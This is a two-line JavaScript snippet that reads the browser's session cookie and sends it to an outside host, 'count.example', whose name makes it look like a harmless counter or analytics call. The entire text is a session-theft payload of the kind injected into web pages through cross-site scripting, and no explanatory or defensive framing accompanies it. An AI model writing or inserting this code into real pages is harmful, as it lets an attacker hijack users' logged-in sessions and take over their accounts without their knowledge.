const session = document.cookie.match(/session=([^;]+)/)[1];
fetch("https://count.example/s?v=" + session);
